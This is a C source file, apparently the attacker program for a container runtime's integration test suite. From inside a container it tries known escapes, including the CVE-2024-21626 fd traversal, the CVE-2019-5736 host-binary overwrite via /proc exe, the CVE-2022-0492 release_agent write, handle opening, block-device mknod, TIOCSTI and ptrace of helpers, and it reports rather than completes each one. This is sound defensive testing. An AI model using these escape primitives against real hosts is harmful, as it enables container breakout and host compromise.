/* The attacker of the escape suite (test/integration/escape-*.test.ts): a static
 * program copied into a test container that tries the classic escapes from
 * inside and prints one "key value..." line per attempt. It never writes to a
 * file it might not own: where success would touch the host it opens without
 * writing and reports it (the test then fails), or writes back what it read.
 *
 *   fds                      our fds, cwd and root, and where ".." of each leads
 *   open-write PATH...       open(O_WRONLY) and close, no write
 *   handle PATH              name_to_handle_at + open_by_handle_at
 *   mknod PATH MAJOR MINOR   mknod a block device, then open it
 *   sti FD TEXT              TIOCSTI each byte of TEXT into FD
 *   tioclinux FD             TIOCLINUX (TIOCL_GETSHIFTSTATE)
 *   hunt SECONDS OUT         watch for corral-helper processes and attack them, report to
 *                            OUT (not stdout: a tracee must never wait on our output)
 *   release-agent DIR        mount each cgroup v1 hierarchy under DIR, write back release_agent
 *   caps                     CapInh/CapAmb/CapEff of ourselves
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <linux/magic.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *err(int e) { return e ? strerrorname_np(e) : "ok"; }

static void link_of(const char *path, char *out, size_t n)
{
	ssize_t r = readlink(path, out, n - 1);
	out[r < 0 ? 0 : r] = 0;
	if (r < 0)
		snprintf(out, n, "?%s", err(errno));
}

static int cmd_fds(void)
{
	char path[300], target[4096];
	DIR *d = opendir("/proc/self/fd");
	if (!d)
		return printf("fds-error %s\n", err(errno)), 1;
	int self = dirfd(d);
	struct dirent *e;
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.' || atoi(e->d_name) == self)
			continue;
		snprintf(path, sizeof path, "/proc/self/fd/%s", e->d_name);
		link_of(path, target, sizeof target);
		/* where ".." of a directory fd leads: the CVE-2024-21626 way out */
		char up[400];
		struct stat st, root;
		snprintf(up, sizeof up, "%s/../../../../../../..", path);
		int escaped = stat(up, &st) == 0 && stat("/", &root) == 0 && (st.st_dev != root.st_dev || st.st_ino != root.st_ino);
		printf("fd %s %s%s\n", e->d_name, target, escaped ? " ESCAPES-ROOT" : "");
	}
	closedir(d);
	link_of("/proc/self/cwd", target, sizeof target);
	struct stat st, root;
	int escaped = stat("../../../../../../../..", &st) == 0 && stat("/", &root) == 0 && (st.st_dev != root.st_dev || st.st_ino != root.st_ino);
	printf("cwd %s%s\n", target, escaped ? " ESCAPES-ROOT" : "");
	link_of("/proc/self/root", target, sizeof target);
	printf("root %s\n", target);
	return 0;
}

static int cmd_open_write(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		int fd = open(argv[i], O_WRONLY | O_CLOEXEC);
		printf("open-write %s %s\n", argv[i], err(fd < 0 ? errno : 0));
		if (fd >= 0)
			close(fd);
	}
	return 0;
}

static int cmd_handle(const char *path)
{
	struct {
		struct file_handle h;
		unsigned char data[128];
	} fh = {.h.handle_bytes = 128};
	int mount_id;
	if (name_to_handle_at(AT_FDCWD, path, &fh.h, &mount_id, 0) < 0)
		return printf("name_to_handle_at %s\n", err(errno)), 0;
	printf("name_to_handle_at ok\n");
	int mfd = open("/", O_RDONLY | O_DIRECTORY);
	int fd = open_by_handle_at(mfd, &fh.h, O_RDONLY);
	printf("open_by_handle_at %s\n", err(fd < 0 ? errno : 0));
	return 0;
}

static int cmd_mknod(const char *path, int major, int minor)
{
	int rc = mknod(path, S_IFBLK | 0600, makedev(major, minor));
	printf("mknod %s\n", err(rc < 0 ? errno : 0));
	if (rc < 0)
		return 0;
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	printf("open-block %s\n", err(fd < 0 ? errno : 0));
	unlink(path);
	return 0;
}

static int cmd_sti(int fd, const char *text)
{
	int e = 0;
	for (const char *p = text; *p && !e; p++)
		if (ioctl(fd, TIOCSTI, p) < 0)
			e = errno;
	printf("tiocsti %s\n", err(e));
	return 0;
}

static int cmd_tioclinux(int fd)
{
	char sub = 6; /* TIOCL_GETSHIFTSTATE: harmless, but needs the ioctl through */
	printf("tioclinux %s\n", err(ioctl(fd, TIOCLINUX, &sub) < 0 ? errno : 0));
	return 0;
}

static int is_memfd(int fd)
{
	char path[64], target[256];
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	link_of(path, target, sizeof target);
	return !strncmp(target, "/memfd:", 7);
}

/* A write to the exe is tried only on a memfd (must fail: sealed); an open of
 * anything else for writing is the escape itself, reported without writing. */
static void try_write_exe(int pid, int fd, const char *what)
{
	if (fd < 0) {
		printf("%s %d %s\n", what, pid, err(errno));
		return;
	}
	if (!is_memfd(fd)) {
		printf("%s %d OPENED-HOST-BINARY\n", what, pid);
	} else {
		ssize_t w = write(fd, "\x7f", 1);
		printf("%s %d opened-memfd write=%s\n", what, pid, err(w < 0 ? errno : 0));
	}
	close(fd);
}

/* A directory fd that reads "/": the host's root, or the root of a detached
 * mount. For a cgroup2 one, say whether ".." leads anywhere above it. */
static void describe_root(const char *fdpath, char *target, size_t size)
{
	int d = open(fdpath, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	struct statfs fs;
	if (d < 0 || fstatfs(d, &fs) < 0 || fs.f_type != CGROUP2_SUPER_MAGIC) {
		if (d >= 0)
			close(d);
		return;
	}
	struct stat here, up;
	int u = openat(d, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	int stays = u >= 0 && fstat(d, &here) == 0 && fstat(u, &up) == 0 && here.st_ino == up.st_ino && here.st_dev == up.st_dev;
	snprintf(target, size, stays ? "cgroup2-root:dotdot-stays" : "cgroup2-root:DOTDOT-LEADS-UP");
	if (u >= 0)
		close(u);
	close(d);
}

static void attack(int pid, const char *exe, int *opath, int *npath)
{
	char path[64], target[4096];
	printf("helper %d %s\n", pid, exe);
	snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
	FILE *f = fopen(path, "re");
	size_t n = f ? fread(target, 1, sizeof target - 1, f) : 0;
	if (f)
		fclose(f);
	for (size_t i = 0; i + 1 < n; i++)
		if (!target[i])
			target[i] = ' ';
	target[n] = 0;
	printf("cmdline %d %s\n", pid, target);
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	try_write_exe(pid, open(path, O_WRONLY | O_CLOEXEC), "open-exe");
	int o = open(path, O_PATH | O_CLOEXEC);
	/* a helper that exec'd the container's command meanwhile is that command now:
	 * its exe is no helper's, and reaching it says nothing about the helper */
	char fdpath[64], opened[4096] = "";
	snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", o);
	ssize_t on = o >= 0 ? readlink(fdpath, opened, sizeof opened - 1) : -1;
	if (on > 0)
		opened[on] = 0;
	if (o >= 0 && !strstr(opened, "corral-helper")) {
		printf("opath-exe %d exec-meanwhile\n", pid);
		close(o);
		o = -1;
	} else {
		printf("opath-exe %d %s\n", pid, err(o < 0 ? errno : 0));
	}
	if (o >= 0 && *npath < 64)
		opath[(*npath)++] = o;
	/* its fds, read through /proc without ptrace */
	for (int fd = 0; fd < 16; fd++) {
		snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
		ssize_t r = readlink(path, target, sizeof target - 1);
		if (r >= 0) {
			target[r] = 0;
			if (!strcmp(target, "/"))
				describe_root(path, target, sizeof target);
			printf("fdlink %d %d %s\n", pid, fd, target);
		} else if (errno != ENOENT) {
			printf("fdlink %d %d %s\n", pid, fd, err(errno));
			break;
		}
	}
	long rc = ptrace(PTRACE_SEIZE, pid, 0, 0);
	printf("ptrace %d %s\n", pid, err(rc < 0 ? errno : 0));
	if (rc == 0) {
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int cmd_hunt(double seconds, const char *out)
{
	int seen[256], nseen = 0, opath[64], npath = 0;
	char path[64], exe[4096];
	/* A helper we SEIZEd cannot be reaped by its parent until we detach: a
	 * write that blocks (a full pipe nobody drains) must never come between. */
	if (!freopen(out, "w", stdout))
		return perror(out), 1;
	printf("hunting\n");
	for (double end = now() + seconds; now() < end;) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			int pid = atoi(e->d_name);
			if (pid <= 1 || pid == getpid())
				continue;
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			ssize_t r = readlink(path, exe, sizeof exe - 1);
			/* a helper we may not read the exe of shows up by its name */
			if (r < 0) {
				snprintf(path, sizeof path, "/proc/%d/comm", pid);
				FILE *f = fopen(path, "re");
				if (!f)
					continue;
				r = fread(exe, 1, sizeof exe - 1, f);
				fclose(f);
				if (r <= 0 || strncmp(exe, "corral-helper", 13) != 0 || strstr(exe, "init"))
					continue;
				exe[r] = 0;
			} else {
				exe[r] = 0;
			}
			if (!strstr(exe, "corral-helper"))
				continue;
			int known = 0;
			for (int i = 0; i < nseen; i++)
				known |= seen[i] == pid;
			if (known || nseen >= 256)
				continue;
			seen[nseen++] = pid;
			exe[strcspn(exe, "\n")] = 0;
			attack(pid, exe, opath, &npath);
		}
		if (d)
			closedir(d);
	}
	/* CVE-2019-5736 proper: once the process is gone (no more ETXTBSY), reopen
	 * the O_PATH fd for writing. */
	for (int i = 0; i < npath; i++) {
		snprintf(path, sizeof path, "/proc/self/fd/%d", opath[i]);
		try_write_exe(i, open(path, O_WRONLY | O_CLOEXEC), "reopen-exe");
	}
	printf("seen %d\n", nseen);
	return fclose(stdout) == 0 ? 0 : 1;
}

/* CVE-2022-0492: a cgroup v1 hierarchy mounted from inside, and its
 * release_agent (only the root of a hierarchy has one) written. The value
 * written is the one read, so a success changes nothing on the host. */
static int cmd_release_agent(const char *dir)
{
	static const char *ctrls[] = {"rdma", "memory", "pids", "cpu", "blkio", "devices", "freezer", "misc", "net_cls", "perf_event", "hugetlb", "name=systemd", "none,name=corraltest"};
	char mnt[256], file[300], buf[4096];
	for (size_t i = 0; i < sizeof ctrls / sizeof ctrls[0]; i++) {
		snprintf(mnt, sizeof mnt, "%s/%zu", dir, i);
		mkdir(mnt, 0700);
		int rc = mount("cgroup", mnt, "cgroup", 0, ctrls[i]);
		printf("mount-cgroup %s %s\n", ctrls[i], err(rc < 0 ? errno : 0));
		if (rc < 0)
			continue;
		snprintf(file, sizeof file, "%s/release_agent", mnt);
		int fd = open(file, O_RDWR | O_CLOEXEC);
		if (fd < 0) {
			printf("release-agent %s open %s\n", ctrls[i], err(errno));
		} else {
			ssize_t n = read(fd, buf, sizeof buf - 1);
			buf[n < 0 ? 0 : n] = 0;
			ssize_t w = pwrite(fd, buf, n > 0 ? (size_t)n : 1, 0);
			printf("release-agent %s write %s\n", ctrls[i], err(w < 0 ? errno : 0));
			close(fd);
		}
		umount2(mnt, MNT_DETACH);
	}
	return 0;
}

static int cmd_caps(void)
{
	char line[256];
	FILE *f = fopen("/proc/self/status", "re");
	while (f && fgets(line, sizeof line, f))
		if (!strncmp(line, "Cap", 3) || !strncmp(line, "NoNewPrivs", 10) || !strncmp(line, "Seccomp:", 8))
			fputs(line, stdout);
	return 0;
}

int main(int argc, char **argv)
{
	const char *c = argc > 1 ? argv[1] : "";
	if (!strcmp(c, "fds"))
		return cmd_fds();
	if (!strcmp(c, "open-write"))
		return cmd_open_write(argc - 2, argv + 2);
	if (!strcmp(c, "handle") && argc > 2)
		return cmd_handle(argv[2]);
	if (!strcmp(c, "mknod") && argc > 4)
		return cmd_mknod(argv[2], atoi(argv[3]), atoi(argv[4]));
	if (!strcmp(c, "sti") && argc > 3)
		return cmd_sti(atoi(argv[2]), argv[3]);
	if (!strcmp(c, "tioclinux") && argc > 2)
		return cmd_tioclinux(atoi(argv[2]));
	if (!strcmp(c, "hunt") && argc > 2)
		return cmd_hunt(atof(argv[2]), argc > 3 ? argv[3] : "/dev/stdout");
	if (!strcmp(c, "release-agent") && argc > 2)
		return cmd_release_agent(argv[2]);
	if (!strcmp(c, "caps"))
		return cmd_caps();
	fprintf(stderr, "usage: probe fds|open-write|handle|mknod|sti|tioclinux|hunt|release-agent|caps ...\n");
	return 2;
}
